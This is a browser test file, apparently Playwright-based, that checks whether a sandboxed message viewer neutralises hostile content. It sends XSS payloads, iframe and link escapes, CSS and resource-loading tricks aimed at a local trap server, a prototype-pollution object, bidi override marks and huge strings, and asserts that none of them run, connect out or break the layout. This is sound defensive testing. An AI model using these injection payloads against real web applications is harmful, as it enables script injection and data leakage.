import { strict as assert } from 'node:assert';
import { once } from 'node:events';
import { createServer, type AddressInfo } from 'node:net';
import { expectWords, message, openMessage, rows } from '../reading';
import { email, push, send, sms } from '../../../../sandbox/support/sampleRequests';
import type { Stage } from '../stage';

/** Another server on this machine, which the page must not connect to. */
export async function trap() {
	let knocks = 0;
	const server = createServer((socket) => {
		knocks++;
		socket.destroy();
	});
	server.listen(0, '127.0.0.1');
	await once(server, 'listening');
	const { port } = server.address() as AddressInfo;
	return {
		url: `http://127.0.0.1:${port}`,
		knocks: () => knocks,
		close: () => void server.close(),
	};
}

const megabyte = 'W'.repeat(1_000_000);
const marks = '\u202e\u202e\u2067gnp.evil\u202e';

export const inText = (url: string) =>
	`<script>window.pwned = 1</script><img src="${url}/img" onerror="window.pwned = 2"><svg onload="window.pwned = 3"><style>* { display: none !important }</style>"><b onmouseover=alert(1)>`;

export const inMail = (url: string) => `
<script>parent.pwned = 1; window.pwned = 1; alert(1); top.location = '${url}/top'</script>
<script src="${url}/script.js"></script><link rel="stylesheet" href="${url}/style.css">
<link rel="preconnect" href="${url}"><link rel="prefetch" href="${url}/prefetch"><link rel="preload" as="image" href="${url}/preload">
<style>@import url("${url}/import.css"); *, html, body, .app, .row { background: url("${url}/background") red !important } @font-face { font-family: F; src: url("${url}/font") } body { font-family: F }</style>
<meta http-equiv="refresh" content="0;url=${url}/refresh"><meta http-equiv="content-security-policy" content="default-src *">
<base href="${url}/base/" target="_top"><ifr\0ame src="${url}/nul"></iframe><IFRAME/src="${url}/slash"></IFRAME><a/hReF
= "${url}/odd" target=_self id="odd">odd</a><math href="${url}/math" id="math"><mtext>m</mtext></math><svg><a xlink:href="${url}/xlink" target="_self"><text id="xlink" y="10">x</text></a></svg>
<img src="${url}/img" srcset="${url}/set 2x" onerror="parent.pwned = 2"><video src="${url}/video" autoplay poster="${url}/poster"></video><audio src="${url}/audio" autoplay></audio>
<svg onload="parent.pwned = 3"><image href="${url}/svg"/><use href="${url}/use#a"/></svg><object data="${url}/object"></object><embed src="${url}/embed">
<iframe src="${url}/frame"></iframe><iframe src="javascript:parent.parent.pwned = 4"></iframe><iframe srcdoc="<script>parent.parent.pwned = 5</script>"></iframe>
<form action="${url}/form" target="_top"><input name="secret" autofocus onfocus="parent.pwned = 6"><button id="send">Send</button></form>
<a id="self" target="_self" href="${url}/self">self</a> <a id="top" target="_top" href="${url}/top">top</a> <a id="blank" target="_blank" href="${url}/blank" ping="${url}/ping">blank</a> <a id="script" target="_self" href="javascript:parent.pwned = 7">script</a> <a id="home" target="_self" href="/">home</a>
<div style="position: fixed; inset: 0; background: url(${url}/fixed)" onclick="parent.pwned = 8"></div></iframe></div><h1 style="position: relative">Still here</h1>`;

/** No content of a message runs, requests anything or breaks the layout of the page. */
export async function hostileContent({
	page,
	sandbox,
	context,
	outside,
	errors,
	dialogs,
}: Stage): Promise<void> {
	const { url, knocks, close } = await trap();
	// Numbers stand for frames, and an email is in one.
	const globals = async () =>
		await page.evaluate<string[]>(
			'Object.getOwnPropertyNames(window).filter((name) => !/^\\d+$/.test(name)).sort()',
		);
	const before = await globals();
	try {
		await send(sandbox, '/api/v1/web/send', { ...push, title: 'Harmless' });
		const text = inText(url);
		for (const platform of ['web', 'android', 'ios']) {
			await send(sandbox, `/api/v1/${platform}/send`, {
				...push,
				title: `Push ${text}`,
				message: text,
				url: 'javascript:window.pwned=9',
				image_url: `${url}/image`,
				hero_image_url: `${url}/hero`,
				button_one_title: text,
				user_id: text,
				extra: JSON.parse('{"__proto__":{"polluted":1}}') as object,
			});
		}
		await send(sandbox, '/api/v1/sendMessage', {
			...sms,
			sender_name: `SMS ${text}`,
			message: text,
		});
		await send(sandbox, '/api/v1/user/create', {
			nv: [{ userID: text, user_attributes: { name: text, [text]: text, list: [text] } }, null, 7],
		});
		await send(sandbox, '/api/v1/sendMessage', {
			...email,
			subject: `Mail ${text}`,
			sender_name: text,
			reply_to: text,
			content: inMail(url),
		});
		await send(sandbox, `/api/v1/event/${encodeURIComponent(text)}`, { text });
		await send(sandbox, '/api/v1/ios/send', {
			...push,
			title: `Marks ${marks}`,
			message: marks,
			user_id: marks,
			schedule_date: marks,
			schedule_time: marks,
		});
		await send(sandbox, '/api/v1/web/send', {
			...push,
			title: `Huge ${megabyte}`,
			message: megabyte,
			url: megabyte,
			user_id: megabyte,
			button_one_title: megabyte,
			[megabyte]: megabyte,
		});
		await send(sandbox, '/api/v1/sendMessage', {
			...sms,
			sender_name: `Bulk ${megabyte}`,
			message: megabyte,
		});
		await expectWords(page.locator('.totals'), '11 arrivals');

		for (const title of [
			'Push <script>',
			'SMS <script>',
			'3 users',
			'/api/v1/event/',
			'Marks',
			'Huge',
			'Bulk',
			'Mail <script>',
		]) {
			for (const [index] of (await rows(page).filter({ hasText: title }).all()).entries()) {
				await rows(page).filter({ hasText: title }).nth(index).click();
				await expectWords(message(page).locator('.detail-title'), title);
				await message(page).getByText('Request secrets masked').click();
				await expectShape();
			}
		}
		await expectMailHeld();
		await page.getByRole('button', { name: 'Scheduled' }).click();
		await expectShape();
		await page.waitForTimeout(300);

		assert.equal(knocks(), 0);
		assert.deepEqual([outside, dialogs], [[], []]);
		assert.equal(context.pages().length, 1);
		assert.deepEqual(await globals(), before);
		assert.equal(await page.evaluate('({}).polluted'), undefined);
		// The only errors are the browser's refusals, none of the page itself.
		assert.deepEqual(
			errors.filter((text) => !/Content Security Policy|sandboxed|Blocked|Refused/i.test(text)),
			[],
		);
		errors.length = 0;
	} finally {
		close();
	}

	/** Rows of one height and in line, nothing wider than the window, and of a huge text only its beginning. */
	async function expectShape(): Promise<void> {
		const { width } = page.viewportSize() ?? { width: 0 };
		assert.ok(Number(await page.evaluate('document.documentElement.scrollWidth')) <= width);
		assert.equal(
			await page.evaluate(
				'document.querySelector(".message-column").scrollWidth <= document.querySelector(".message-column").clientWidth',
			),
			true,
		);
		assert.equal(
			await page.evaluate('getComputedStyle(document.querySelector(".header")).display'),
			'flex',
		);
		assert.ok(Number(await page.evaluate('document.body.textContent.length')) < 200_000);
		const boxes = await Promise.all(
			(await rows(page).all()).map(async (row) => await row.boundingBox()),
		);
		assert.deepEqual([...new Set(boxes.map((box) => `${box?.height} ${box?.x}`))], ['84 0']);
		const ends = await page
			.locator('.row .outcome')
			.evaluateAll((all: Array<{ getBoundingClientRect(): { right: number } }>) =>
				all.map((one) => Math.round(one.getBoundingClientRect().right)),
			);
		assert.equal(new Set(ends).size, 1);
	}

	/** Its links and buttons have no effect. */
	async function expectMailHeld(): Promise<void> {
		const shown = await openMessage(page, 'Mail <script>');
		const frame = shown.locator('iframe');
		const address = page.url();
		for (const link of [
			'#odd',
			'#math',
			'#xlink',
			'#self',
			'#top',
			'#blank',
			'#script',
			'#home',
			'#send',
		]) {
			await frame.contentFrame().locator(link).dispatchEvent('click');
			await page.waitForTimeout(100);
			assert.equal(await frame.contentFrame().getByText('Still here').count(), 1);
		}
		assert.equal(page.url(), address);
	}
}
